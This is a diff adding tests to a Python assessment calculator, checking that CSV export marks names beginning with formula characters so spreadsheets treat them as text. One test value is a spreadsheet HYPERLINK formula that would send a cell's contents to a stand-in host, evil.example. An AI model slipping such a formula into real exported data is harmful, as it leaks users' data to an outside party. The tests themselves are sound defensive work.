@@ -7,6 +7,8 @@ fractions worked out by hand.
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import math
 import statistics
@@ -15,7 +17,7 @@ from typing import Any
 
 import pytest
 import yaml
-from hypothesis import given, settings
+from hypothesis import assume, given, settings
 from hypothesis import strategies as st
 
 from calculators.assessment import (
@@ -502,6 +504,92 @@ def test_export_then_import_round_trip() -> None:
         (participant,) = imported.participants
         assert participant.name == 'Tamm, "Mari"; Õie'
         assert dict(participant.answers) == answers
+
+
+# ---------------------------------------------------------------------------------------------
+# Formula injection: a name that a spreadsheet would run is written as text, and read back
+
+#: What a spreadsheet reads as the start of a formula (OWASP's list and the full-width forms).
+FORMULA_STARTS = "=+-@\t\r\uff1d\uff0b\uff0d\uff20"
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
+
+
+def spreadsheet_rows(text: str, delimiter: str = ",") -> list[list[str]]:
+    """The cells as a spreadsheet program sees them (Python's csv module)."""
+    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
+
+
+@pytest.mark.parametrize(
+    ("name", "cell"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+372 5555 5555", "'+372 5555 5555"),
+        ("-Mari", "'-Mari"),
+        ("@SUM(1+1)", "'@SUM(1+1)"),
+        ("\uff1dSUM(A1)", "'\uff1dSUM(A1)"),
+        ("'=already marked", "''=already marked"),
+        ("'Mari", "'Mari"),
+        ("Mari = Mai", "Mari = Mai"),
+        ("  =1+1", "'=1+1"),
+    ],
+)
+def test_export_marks_names_that_start_like_a_formula(name: str, cell: str) -> None:
+    for delimiter in (",", ";"):
+        rows = spreadsheet_rows(to_csv(ABCD, {"a": 2}, name, delimiter=delimiter), delimiter)
+        assert rows[1][0] == cell
+
+
+def test_export_keeps_answers_numbers_and_quotes_a_marked_name() -> None:
+    text = to_csv(ABCD, {"a": "+2", "b": " 4 ", "c": 1}, HYPERLINK)
+    assert text.splitlines()[1] == '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""x"")",2,4,1,'
+    (header, row) = spreadsheet_rows(text)
+    assert header == ["participant", *ABCD]
+    assert row[0] == "'" + HYPERLINK
+    # The answers are numbers, written as numbers: no apostrophe, no sign.
+    assert row[1:] == ["2", "4", "1", ""]
+    assert [int(cell) for cell in row[1:4]] == [2, 4, 1]
+
+
+def test_a_marked_name_reads_back_without_its_apostrophe() -> None:
+    names = [HYPERLINK, "@SUM(1+1)", "-Mari", "'=already marked", "'Mari", "\uff20x"]
+    text = "".join(to_csv(ABCD, {"a": 1}, name) for name in names)
+    written = [row[0] for row in spreadsheet_rows(text)[1::2]]
+    assert written == ["'" + name for name in names[:4]] + names[4:5] + ["'\uff20x"]
+    imported = read_team_csv(ABCD, text)
+    assert imported.problems == ()
+    assert names_of(imported) == names
+
+
+def test_a_hand_marked_name_loses_exactly_one_apostrophe() -> None:
+    text = lines(HEADER, "'=x,1,,,", "''-y,1,,,", "'z,1,,,", "'',1,,,", "' =w,1,,,")
+    assert names_of(read_team_csv(ABCD, text)) == ["=x", "'-y", "'z", "''", "' =w"]
+
+
+def test_api_export_marks_the_name() -> None:
+    answer = api_export({"aspects": "a b", "a": "3", "participant": "@SUM(1+1)"})
+    assert answer["ok"] is True
+    assert answer["result"]["csv"] == "participant,a,b\r\n'@SUM(1+1),3,\r\n"
+    team = api_team({"aspects": "a b", "csv": answer["result"]["csv"]})
+    assert team["result"]["participants"][0]["name"] == "@SUM(1+1)"
+
+
+@settings(max_examples=300)
+@given(
+    st.text(alphabet=st.sampled_from(FORMULA_STARTS + "'= aA,;\"")) | st.text(),
+    st.sampled_from([",", ";"]),
+)
+def test_no_written_name_starts_a_formula_and_every_name_reads_back(
+    name: str, delimiter: str
+) -> None:
+    tidy = clean_name(name)
+    assume(tidy)
+    text = to_csv(ABCD, {"a": 1, "b": 4}, name, delimiter=delimiter)
+    cell = spreadsheet_rows(text, delimiter)[1][0]
+    assert cell[:1] not in set(FORMULA_STARTS)
+    assert cell == tidy or cell == "'" + tidy
+    imported = read_team_csv(ABCD, text)
+    assert imported.problems == ()
+    assert names_of(imported) == [tidy]
 
 
 # ---------------------------------------------------------------------------------------------
